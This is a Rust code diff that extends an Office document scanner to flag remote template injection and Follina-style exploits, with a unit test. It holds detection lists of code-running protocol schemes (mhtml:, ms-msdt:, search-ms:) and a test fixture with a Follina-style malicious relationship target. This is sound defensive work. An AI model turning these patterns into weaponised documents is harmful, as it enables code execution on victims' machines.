@@ -24,6 +24,15 @@ const MAX_RELS_BYTES: u64 = 256 * 1024;
 /// Pictures looked at per file to find the ones worth searching.
 const MAX_MEDIA_TRIES: usize = 32;
 
+/// Relationship types whose external target Word or Excel fetches on
+/// opening, without a click: remote template injection (CVE-2017-0199).
+const FETCHED: &[&str] = &["attachedtemplate", "oleobject", "frame", "subdocument"];
+/// URL schemes of protocol handlers that Office documents have used to run
+/// code on opening; no ordinary document points at them.
+const EXPLOIT_SCHEMES: &[&str] = &["mhtml:", "ms-msdt:", "search-ms:", "search:", "ms-officecmd:"];
+/// Remote and exploit relationships kept per file.
+const MAX_REMOTE: usize = 8;
+
 /// Extensions of Office Open XML packages.
 const EXTS: &[&str] = &[
     "docx", "docm", "dotx", "dotm", "xlsx", "xlsm", "xltx", "xltm", "xlam", "pptx", "pptm", "potx", "potm", "ppsx", "ppsm", "ppam", "sldx",
@@ -36,6 +45,12 @@ pub struct OfficeScan {
     /// External targets of its relationships (hyperlinks, linked
     /// pictures and templates), as written.
     pub links: Vec<String>,
+    /// Parts it fetches from the web when opened (a template, a frame, an
+    /// embedded object), as "attachedTemplate https://…".
+    pub remote: Vec<String>,
+    /// Relationships that hand a URL to a Windows protocol handler known
+    /// for running code (`mhtml:`, `ms-msdt:`: Follina, CVE-2022-30190).
+    pub exploits: Vec<String>,
     /// Its pictures, for the QR search (at most the budget it was given).
     pub images: Vec<Vec<u8>>,
     /// Why the file was not (fully) read.
@@ -115,9 +130,10 @@ fn relationships(xml: &[u8], out: &mut OfficeScan) {
     loop {
         match reader.read_event_into(&mut buf) {
             Ok(Event::Start(e) | Event::Empty(e)) if e.local_name().as_ref() == "Relationship" => {
-                let (mut target, mut external) = (None, false);
+                let (mut target, mut external, mut kind) = (None, false, String::new());
                 for attr in e.attributes().flatten() {
                     match attr.key.local_name().as_ref() {
+                        "Type" => kind = attr.value.rsplit('/').next().unwrap_or("").to_ascii_lowercase(),
                         "Target" => {
                             target = attr
                                 .normalized_value(quick_xml::XmlVersion::Implicit1_0)
@@ -129,6 +145,7 @@ fn relationships(xml: &[u8], out: &mut OfficeScan) {
                     }
                 }
                 if let Some(t) = target.filter(|t| external && !t.is_empty()) {
+                    remote(&kind, &t, out);
                     if out.links.len() >= MAX_LINKS {
                         out.limit
                             .get_or_insert_with(|| format!("Office file with more than {MAX_LINKS} links; the rest were not checked"));
@@ -144,6 +161,23 @@ fn relationships(xml: &[u8], out: &mut OfficeScan) {
             Ok(_) => {}
         }
         buf.clear();
+    }
+}
+
+/// Records an external target that is fetched on opening, or that goes to
+/// a code-running protocol handler.
+fn remote(kind: &str, target: &str, out: &mut OfficeScan) {
+    let lower = target.to_ascii_lowercase();
+    let shown: String = target.chars().take(100).collect();
+    let (list, what) = if EXPLOIT_SCHEMES.iter().any(|s| lower.starts_with(s)) || lower.contains("!x-usc:") {
+        (&mut out.exploits, format!("{kind} {shown}"))
+    } else if FETCHED.contains(&kind) && (lower.starts_with("http://") || lower.starts_with("https://")) {
+        (&mut out.remote, format!("{kind} {shown}"))
+    } else {
+        return;
+    };
+    if list.len() < MAX_REMOTE && !list.contains(&what) {
+        list.push(what);
     }
 }
 
@@ -178,6 +212,37 @@ pub(crate) mod tests {
         assert_eq!(scan.limit, None);
         // No picture budget left: none taken.
         assert!(read(&docx(RELS, &[("word/media/image1.png", png)]), 0).images.is_empty());
+    }
+
+    /// Remote template injection and Follina: what Word fetches or runs on
+    /// opening. A template on the author's own disk, and ordinary links,
+    /// are neither.
+    #[test]
+    fn fetched_parts_and_exploit_handlers_are_told_apart() {
+        let rel = |kind: &str, target: &str| {
+            format!(
+                "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
+            )
+        };
+        let template = read(&docx(&rel("attachedTemplate", "https://cdn.example/t.dotm"), &[]), 10);
+        assert_eq!(template.remote, vec!["attachedtemplate https://cdn.example/t.dotm".to_string()]);
+        assert!(template.exploits.is_empty());
+        let follina = read(
+            &docx(
+                &rel("oleObject", "mhtml:https://x.example/a.html!x-usc:https://x.example/a.html"),
+                &[],
+            ),
+            10,
+        );
+        assert_eq!(follina.exploits.len(), 1);
+        assert!(follina.remote.is_empty());
+        for (kind, target) in [
+            ("attachedTemplate", "file:///C:/Users/alex/Templates/Letterhead.dotx"),
+            ("hyperlink", "https://www.example.org/"),
+        ] {
+            let scan = read(&docx(&rel(kind, target), &[]), 10);
+            assert!(scan.remote.is_empty() && scan.exploits.is_empty(), "{kind} {target}");
+        }
     }
 
     #[test]
